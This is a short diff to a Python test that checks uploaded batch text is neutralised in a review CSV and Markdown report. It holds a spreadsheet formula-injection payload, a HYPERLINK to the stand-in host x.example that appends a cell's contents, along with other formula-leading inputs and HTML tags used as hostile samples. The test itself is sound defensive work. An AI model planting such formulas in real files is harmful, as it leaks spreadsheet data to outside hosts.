@@ -56,7 +56,7 @@ def test_batch_text_is_inert_in_the_review_csv_and_the_markdown_page(tmp_path):
         "'=1+1", "'" + hostile[0], "'+a", "'@b"]
     page = Path(written.report_markdown).read_text(encoding="utf-8")
     assert "<img" not in page and "<b>" not in page and "# Validation of &lt;b&gt;evil.csv: REJECTED" in page
-    assert '=HYPERLINK("http://x.example/?"&amp;A1,"click")' in page
+    assert r'=HYPERLINK("http:\/\/x.example/?"&amp;A1,"click")' in page
     table = [line for line in page.splitlines() if line.startswith("| ")]
     assert len(table) == 2 and all(line.count(" | ") == 4 for line in table)  # header + one suspect: no extra cells
     assert "lab\\|0&lt;b&gt;" in page
